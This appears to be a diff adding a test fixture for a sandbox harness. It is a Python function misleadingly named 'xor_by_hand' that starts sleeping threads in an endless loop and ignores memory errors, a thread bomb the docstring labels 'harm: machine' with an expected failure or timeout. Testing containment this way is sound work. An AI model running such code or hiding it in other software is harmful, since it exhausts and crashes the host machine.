@@ -1,0 +1,17 @@
+"""Starts threads until nothing is left.
+
+harm: machine
+must: xor_by_hand failed|timeout
+"""
+
+import threading
+import time
+
+
+# %% xor_by_hand
+def xor_by_hand():
+    while True:
+        try:
+            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
+        except (RuntimeError, MemoryError):
+            pass
